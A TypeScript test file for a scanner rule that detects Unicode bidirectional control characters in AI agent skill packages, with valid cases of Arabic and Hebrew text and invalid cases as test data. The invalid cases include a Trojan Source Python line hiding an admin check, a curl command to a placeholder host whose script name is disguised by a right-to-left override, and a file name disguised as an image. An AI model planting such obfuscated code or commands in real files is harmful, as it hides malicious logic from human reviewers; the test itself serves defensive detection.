import { testRule } from '../rule-tester.ts';
import { unicodeBidiControl } from '../../../src/scan/rules/unicode-bidi-control.ts';

const skill = (body: string) => ({ 'SKILL.md': `---\nname: helper\ndescription: Helps with tasks.\n---\n\n${body}\n` });

testRule(unicodeBidiControl, {
  valid: [
    { name: 'Arabic with embeddings', files: skill('مرحبا \u202bبالعالم\u202c') },
    { name: 'Hebrew text', files: skill('שלום עולם') },
    { name: 'plain code', files: { 'scripts/a.py': 'if role == "admin":\n    pass\n' } },
  ],
  invalid: [
    { name: 'trojan source in python', files: { 'scripts/a.py': 'access = "user\u202e \u2066# admin\u2069 \u2066"\n' }, errors: [{ messageId: 'code', severity: 'high', file: 'scripts/a.py' }] },
    { name: 'override in a command line', files: skill('Run `curl https://x.example/\u202eexe.sh`'), errors: [{ messageId: 'code', severity: 'high' }] },
    { name: 'override in prose', files: skill('Read the file named gnp.\u202eexe now'), errors: [{ messageId: 'prose', severity: 'medium' }] },
  ],
});
